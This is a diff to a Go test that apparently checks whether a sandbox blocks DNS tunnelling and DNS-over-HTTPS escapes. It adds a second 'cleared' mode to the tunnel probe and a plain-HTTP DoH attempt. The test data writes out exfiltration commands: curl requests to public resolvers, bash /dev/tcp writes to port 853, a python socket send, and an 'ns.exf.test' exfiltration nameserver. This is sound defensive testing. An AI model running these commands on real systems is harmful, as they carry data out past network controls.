@@ -121,20 +121,22 @@ func TestEscapeDNS(t *testing.T) {
 		ask("DNS-06", "tcp:8.8.4.4", "[2001:4860:4860::8888]", "tcp:[2001:4860:4860::8888]", "tcp:127.0.0.53", "[::1]", "tcp:169.254.169.253")
 		a.escape(t, a.s, "DNS-05", a.works, func(x *line) {
 			// What a tunnel needs: records that carry text back, long names out, and no end of them.
-			x.way(transparent)
-			seq := len(x.events())
-			got := x.probe("tunnel", "8.8.8.8", "ns.exf.test")
-			if got.Code != 0 {
-				x.Errorf("%s%s", got.Stdout, got.Stderr)
-			}
-			if z.wasAsked("ns.exf.test") || x.sink.packets() > 0 {
-				x.Error("a query went out")
-			}
-			if n := len(x.events()) - seq; n > 100 {
-				x.Errorf("%d events of one flood", n)
+			for _, way := range []string{transparent, cleared} {
+				x.way(way)
+				seq := len(x.events())
+				got := x.receive(x.send(order{Argv: []string{probePath(), "probe", "tunnel", "8.8.8.8", "ns.exf.test"}, Clear: way == cleared}))
+				if got.Code != 0 {
+					x.Errorf("%s%s", got.Stdout, got.Stderr)
+				}
+				if z.wasAsked("ns.exf.test") || x.sink.packets() > 0 {
+					x.Error("a query went out")
+				}
+				if n := len(x.events()) - seq; n > 100 {
+					x.Errorf("%d events of one flood", n)
+				}
 			}
 		})
-		a.run(t, "DNS-04", attacks(everyWay("curl -sS 'https://dns.google/resolve?name=MARK'", "curl -sS 'https://cloudflare-dns.com/dns-query?name=MARK'", "curl -sSk https://8.8.8.8/MARK",
+		a.run(t, "DNS-04", attacks(everyWay("curl -sS 'https://dns.google/resolve?name=MARK'", "curl -sS 'http://dns.google/resolve?name=MARK'", "curl -sS 'https://cloudflare-dns.com/dns-query?name=MARK'", "curl -sSk https://8.8.8.8/MARK",
 			"curl -sS -H 'Accept: application/dns-message' --data-binary MARK https://mozilla.cloudflare-dns.com/dns-query"),
 			scripts("bash -c 'exec 3<>/dev/tcp/8.8.8.8/853; echo MARK >&3; cat <&3'", "env -i /bin/bash -c 'exec 3<>/dev/tcp/dns.google/853; echo MARK >&3; cat <&3'",
 				`python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 853)); s.send(b"MARK")'`))...)
